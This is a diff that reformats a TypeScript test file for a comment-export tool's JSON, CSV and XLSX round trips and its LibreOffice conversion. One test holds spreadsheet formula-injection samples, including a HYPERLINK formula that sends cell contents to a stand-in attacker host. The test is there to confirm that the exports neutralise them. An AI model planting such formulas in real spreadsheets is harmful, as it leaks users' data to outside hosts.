@@ -8,7 +8,16 @@ import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import { backupJson, type Comment, commentsFromRows, type CommentStore, emptyStore, exportColumns, readBackup, templateCsv } from '../../src/lib/comments/comment-model.ts';
+import {
+  backupJson,
+  type Comment,
+  commentsFromRows,
+  type CommentStore,
+  emptyStore,
+  exportColumns,
+  readBackup,
+  templateCsv,
+} from '../../src/lib/comments/comment-model.ts';
 import { fillCommentWorkbook, workbookRows } from '../../src/lib/comments/comment-workbook.ts';
 import { cellText, xmlSafe } from '../../src/lib/comments/spreadsheet-cells.ts';
 import { strictCsvRows } from '../support/strict-csv.ts';
@@ -34,7 +43,9 @@ async function asInBrowser<T>(f: () => Promise<T>): Promise<T> {
   }
 }
 
-async function xlsxRoundTrip(store: CommentStore): Promise<{ comments: Comment[]; commenter: string; replaced: number }> {
+async function xlsxRoundTrip(
+  store: CommentStore,
+): Promise<{ comments: Comment[]; commenter: string; replaced: number }> {
   const wb = new ExcelJS.Workbook();
   const { replaced } = fillCommentWorkbook(wb, store, exportColumns(COLUMNS), options.now);
   const back = new ExcelJS.Workbook();
@@ -56,7 +67,29 @@ function random(seed: number) {
 
 /** Any Unicode scalar value, with CSV/spreadsheet specials and line breaks much more often than chance. */
 function randomText(r: () => number, length: number): string {
-  const specials = ['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', "'", ' ', '\u0000', '\u007F', '\uFFFF', '\uFFFE', '\u{10FFFF}', '\u{1F600}', 'é', '_x000D_', '_x005F_'];
+  const specials = [
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t',
+    '\r',
+    '\n',
+    '\r\n',
+    '"',
+    ',',
+    "'",
+    ' ',
+    '\u0000',
+    '\u007F',
+    '\uFFFF',
+    '\uFFFE',
+    '\u{10FFFF}',
+    '\u{1F600}',
+    'é',
+    '_x000D_',
+    '_x005F_',
+  ];
   const out: string[] = [];
   while (out.length < length) {
     const k = r();
@@ -105,16 +138,25 @@ function firstDifference(got: Comment[], want: Comment[], format: string) {
       if (a === b) continue;
       let at = 0;
       while (a[at] === b[at]) at++;
-      const show = (s: string) => `${JSON.stringify(s.slice(Math.max(0, at - 5), at + 10))} (${[...s.slice(at, at + 4)].map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase()}`).join(' ')})`;
+      const show = (s: string) =>
+        `${JSON.stringify(s.slice(Math.max(0, at - 5), at + 10))} (${[...s.slice(at, at + 4)].map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase()}`).join(' ')})`;
       expect.fail(`${format}: comment ${i + 1}, field ${k} differs at ${at}: got ${show(a)}, expected ${show(b)}`);
     }
   });
 }
 
-const xmlSafeComment = (c: Comment): Comment => ({ ...c, comment: xmlSafe(c.comment).text, suggestion: xmlSafe(c.suggestion).text });
+const xmlSafeComment = (c: Comment): Comment => ({
+  ...c,
+  comment: xmlSafe(c.comment).text,
+  suggestion: xmlSafe(c.suggestion).text,
+});
 
 describe('round trips of random comments (any Unicode, 1 MB texts)', () => {
-  for (const [seed, count, big] of [[1, 40, false], [2, 40, false], [3, 5, true]] as const) {
+  for (const [seed, count, big] of [
+    [1, 40, false],
+    [2, 40, false],
+    [3, 5, true],
+  ] as const) {
     it(`seed ${seed}: ${count} comments${big ? ', two of 1 MB' : ''} through JSON, CSV and XLSX, nothing lost`, async () => {
       const store = randomStore(seed, count, big);
       expect(readBackup(backupJson(store))).toEqual(store);
@@ -128,7 +170,10 @@ describe('round trips of random comments (any Unicode, 1 MB texts)', () => {
       const fromXlsx = await xlsxRoundTrip(store);
       firstDifference(fromXlsx.comments, store.comments.map(xmlSafeComment), 'XLSX');
       expect(fromXlsx.comments).toEqual(store.comments.map(xmlSafeComment));
-      const forbidden = store.comments.reduce((n, c) => n + xmlSafe(c.comment).replaced + xmlSafe(c.suggestion).replaced, 0);
+      const forbidden = store.comments.reduce(
+        (n, c) => n + xmlSafe(c.comment).replaced + xmlSafe(c.suggestion).replaced,
+        0,
+      );
       expect(fromXlsx.replaced).toBe(forbidden);
     }, 120_000);
   }
@@ -138,21 +183,45 @@ describe('XLSX cells of every kind import as their text', () => {
   it('rich text, formulas, hyperlinks, numbers and dates', async () => {
     const wb = new ExcelJS.Workbook();
     const ws = wb.addWorksheet('Sheet');
-    ws.addRow(['Type (E/G/T)', 'Page #', 'Starting Line #', 'Section', 'Comment (include rationale)', 'Suggested Change', 'Created']);
+    ws.addRow([
+      'Type (E/G/T)',
+      'Page #',
+      'Starting Line #',
+      'Section',
+      'Comment (include rationale)',
+      'Suggested Change',
+      'Created',
+    ]);
     ws.addRow([
       { richText: [{ text: 'T' }] },
       { formula: '2+3', result: 5 },
       12,
       { text: '2.1', hyperlink: 'https://example.invalid/' },
       { richText: [{ text: 'Bold ', font: { bold: true } }, { text: 'and plain.' }] },
-      { text: { richText: [{ text: 'Linked ' }, { text: 'rich' }] }, hyperlink: 'https://example.invalid/' } as unknown as ExcelJS.CellValue,
+      {
+        text: { richText: [{ text: 'Linked ' }, { text: 'rich' }] },
+        hyperlink: 'https://example.invalid/',
+      } as unknown as ExcelJS.CellValue,
       new Date(Date.UTC(2026, 10, 23)),
     ]);
     const back = new ExcelJS.Workbook();
     await back.xlsx.load(await wb.xlsx.writeBuffer());
     const { comments } = commentsFromRows(workbookRows(back), COLUMNS, options);
     expect(comments).toEqual([
-      { id: 'generated', document: 'SP 800-213r1 ipd', section: '2.1', page: '5', lineStart: 12, target: '2.1 p.5', type: 'T', comment: 'Bold and plain.', suggestion: 'Linked rich', created: '2026-11-23', updated: options.now, revision: 1 },
+      {
+        id: 'generated',
+        document: 'SP 800-213r1 ipd',
+        section: '2.1',
+        page: '5',
+        lineStart: 12,
+        target: '2.1 p.5',
+        type: 'T',
+        comment: 'Bold and plain.',
+        suggestion: 'Linked rich',
+        created: '2026-11-23',
+        updated: options.now,
+        revision: 1,
+      },
     ]);
     expect(cellText({ error: '#REF!' })).toBe('#REF!');
     expect(cellText(true)).toBe('true');
@@ -162,16 +231,45 @@ describe('XLSX cells of every kind import as their text', () => {
 const SOFFICE = process.env.SOFFICE_PATH ?? '/usr/bin/soffice';
 
 function soffice(file: string, to: string, outDir: string): string {
-  if (!existsSync(SOFFICE)) throw new Error(`LibreOffice is not at ${SOFFICE}: install it (apt-get install -y libreoffice-calc-nogui) or set SOFFICE_PATH.`);
-  execFileSync(SOFFICE, [`-env:UserInstallation=file://${outDir}/profile`, '--headless', '--convert-to', to, '--outdir', outDir, file], { stdio: 'pipe', timeout: 120_000 });
-  return join(outDir, file.split('/').pop()!.replace(/\.\w+$/, `.${to.split(':')[0]}`));
+  if (!existsSync(SOFFICE))
+    throw new Error(
+      `LibreOffice is not at ${SOFFICE}: install it (apt-get install -y libreoffice-calc-nogui) or set SOFFICE_PATH.`,
+    );
+  execFileSync(
+    SOFFICE,
+    [`-env:UserInstallation=file://${outDir}/profile`, '--headless', '--convert-to', to, '--outdir', outDir, file],
+    { stdio: 'pipe', timeout: 120_000 },
+  );
+  return join(
+    outDir,
+    file
+      .split('/')
+      .pop()!
+      .replace(/\.\w+$/, `.${to.split(':')[0]}`),
+  );
 }
 
 describe('the exports in LibreOffice', () => {
   it('opens the CSV with formula-like cells as text (no formula, no live link), and the XLSX with forbidden characters whole', async () => {
     const dir = tempDir();
-    const attack = ['=HYPERLINK("http://attacker.invalid/?"&A1,"Click for details")', '+SUM(1,2)', '-1+2', '@SUM(1)', '\t=1+1', 'Plain.'];
-    const store = { ...emptyStore(), commenter: { name: 'A', organization: 'B' }, comments: attack.map((comment, i) => ({ ...randomStore(9, 1, false).comments[0]!, id: `a${i}`, comment: i === 5 ? 'Plain \u0001 text\uFFFF end' : comment, suggestion: 'after' })) };
+    const attack = [
+      '=HYPERLINK("http://attacker.invalid/?"&A1,"Click for details")',
+      '+SUM(1,2)',
+      '-1+2',
+      '@SUM(1)',
+      '\t=1+1',
+      'Plain.',
+    ];
+    const store = {
+      ...emptyStore(),
+      commenter: { name: 'A', organization: 'B' },
+      comments: attack.map((comment, i) => ({
+        ...randomStore(9, 1, false).comments[0]!,
+        id: `a${i}`,
+        comment: i === 5 ? 'Plain \u0001 text\uFFFF end' : comment,
+        suggestion: 'after',
+      })),
+    };
     const csvFile = join(dir, 'comments.csv');
     writeFileSync(csvFile, templateCsv(store, exportColumns(COLUMNS)).text);
     const converted = new ExcelJS.Workbook();
@@ -190,7 +288,12 @@ describe('the exports in LibreOffice', () => {
     expect(replaced).toBe(2);
     const xlsxFile = join(dir, 'export.xlsx');
     writeFileSync(xlsxFile, Buffer.from(await wb.xlsx.writeBuffer()));
-    const csvBack = strictCsvRows(readFileSync(soffice(xlsxFile, 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false', dir), 'utf8'));
+    const csvBack = strictCsvRows(
+      readFileSync(
+        soffice(xlsxFile, 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false', dir),
+        'utf8',
+      ),
+    );
     expect(csvBack).toHaveLength(attack.length + 1);
     expect(csvBack[6]![7]).toBe('Plain \uFFFD text\uFFFD end');
     expect(csvBack[6]![8]).toBe('after');
